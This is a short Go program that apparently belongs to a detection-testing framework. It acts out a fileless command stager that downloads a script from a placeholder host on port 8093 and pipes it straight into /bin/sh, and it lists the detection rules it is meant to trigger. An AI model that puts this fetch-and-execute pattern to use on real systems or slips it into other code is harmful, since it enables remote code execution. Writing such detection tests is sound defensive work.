// Command stager fetches a script from a server without a name and gives it to
// a shell to read, so that it never is a file. What the simulated internet
// hands out does nothing.
//
// Rule: execution/runs-download; command-and-control/bare-address; and
// command-and-control/reverse-shell, which cannot tell this from a shell that is
// connected, and is not sure.
package main

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"os"
	"os/exec"

	"github.com/detonaut/detonaut/actors/stage"
	"github.com/detonaut/detonaut/actors/wire"
)

func main() { stage.Play(run) }

func run(ctx context.Context) error {
	script, err := wire.Request(ctx, http.DefaultClient, http.MethodGet, "http://"+wire.Stranger+":8093/i.sh", nil)
	if err != nil {
		return err
	}
	cmd := exec.CommandContext(ctx, "/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = bytes.NewReader(script), os.Stdout, os.Stderr
	if err := cmd.Run(); err != nil {
		return err
	}
	fmt.Printf("ran %d bytes\n", len(script))
	return nil
}
